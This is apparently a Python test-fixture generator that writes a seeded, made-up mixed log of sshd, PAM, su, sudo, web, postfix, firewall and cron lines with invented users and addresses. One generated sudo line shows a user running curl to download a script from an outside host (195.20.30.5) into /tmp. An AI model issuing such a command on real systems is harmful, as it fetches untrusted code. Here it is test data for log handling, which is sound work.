#!/usr/bin/python3
"""Write tests/data/notice/mixed.log: 330 lines of a site's mixed logs, made up, for the notice
world test: sshd, PAM, su and sudo with our users' names, a web server with authenticated
users and our domain in escaped query strings, postfix with SASL user names, a firewall naming
our addresses (ours by [site], RFC 1918 and documentation space), our short host names in the
syslog host field, and lines that are garbage, empty or from cron. Three outside parties
(74.125.225.229, 1.1.1.1, 195.20.30.5) that the test world answers for. Seeded: the same file
every time.

usage: make_mixed_log.py > tests/data/notice/mixed.log
"""
import random
import sys

random.seed(7)
lines=[]
def t(i):  # seconds since 03:00:00
    return "Nov 25 %02d:%02d:%02d" % (3 + i//3600, (i//60)%60, i%60)
sec=0
for i in range(330):
    sec += random.randint(1,9)
    k = i % 11
    port = 33000 + i
    if k == 0:
        lines.append(f"{t(sec)} bastion sshd[{2000+i}]: Failed password for taro.yamada from 74.125.225.229 port {port} ssh2")
    elif k == 1:
        lines.append(f"{t(sec)} bastion sshd[{2000+i}]: Invalid user oracle from 1.1.1.1 port {port}")
    elif k == 2:
        lines.append(f"{t(sec)} bastion sshd[{2000+i}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=195.20.30.5  user=jiro")
    elif k == 3:
        lines.append(f"{t(sec)} bastion sshd[{2000+i}]: Accepted publickey for hanako from 192.168.10.5 port {port} ssh2: RSA SHA256:abcdef")
    elif k == 4:
        if i % 2:
            lines.append(f"{t(sec)} bastion su[{3000+i}]: pam_unix(su:auth): authentication failure; logname=taro.yamada uid=1000 euid=0 tty=pts/0 ruser=taro.yamada rhost=74.125.225.229  user=root")
        else:
            lines.append(f"{t(sec)} bastion su[{3000+i}]: (to root) taro.yamada on pts/0")
    elif k == 5:
        lines.append(f"{t(sec)} bastion sudo:   hanako : TTY=pts/1 ; PWD=/home/hanako ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x.sh http://195.20.30.5/x.sh")
    elif k == 6:
        lines.append(f'74.125.225.229 - webadmin [25/Nov/2026:{3 + sec//3600:02d}:{(sec//60)%60:02d}:{sec%60:02d} +0900] "GET /admin/login?next=https%3A%2F%2Fportal.corp.example.jp%2Fhome HTTP/1.1" 401 512 "https://www.corp.example.jp/" "Mozilla/5.0"')
    elif k == 7:
        lines.append(f"{t(sec)} mx1 postfix/smtpd[{4000+i}]: warning: unknown[195.20.30.5]: SASL LOGIN authentication failed: UGFzc3dvcmQ6")
    elif k == 8:
        lines.append(f"{t(sec)} mx1 postfix/smtpd[{4000+i}]: 4F{i:04X}: client=unknown[195.20.30.5], sasl_method=LOGIN, sasl_username=suzuki@corp.example.jp")
    elif k == 9:
        lines.append(f"{t(sec)} fw kernel: DROP IN=eth0 SRC=1.1.1.1 DST=203.0.113.10 PROTO=TCP SPT={port} DPT=3389 (internal 10.0.0.5, gateway gw.corp.example.jp)")
    else:
        choice = i % 3
        if choice == 0:
            lines.append("\x01\x02garbage \xff\xfe line with no time " + "x" * 50)
        elif choice == 1:
            lines.append("")
        else:
            lines.append(f"{t(sec)} bastion CRON[{5000+i}]: (root) CMD (run-parts /etc/cron.hourly)")
sys.stdout.buffer.write(("\n".join(lines) + "\n").encode("latin-1"))
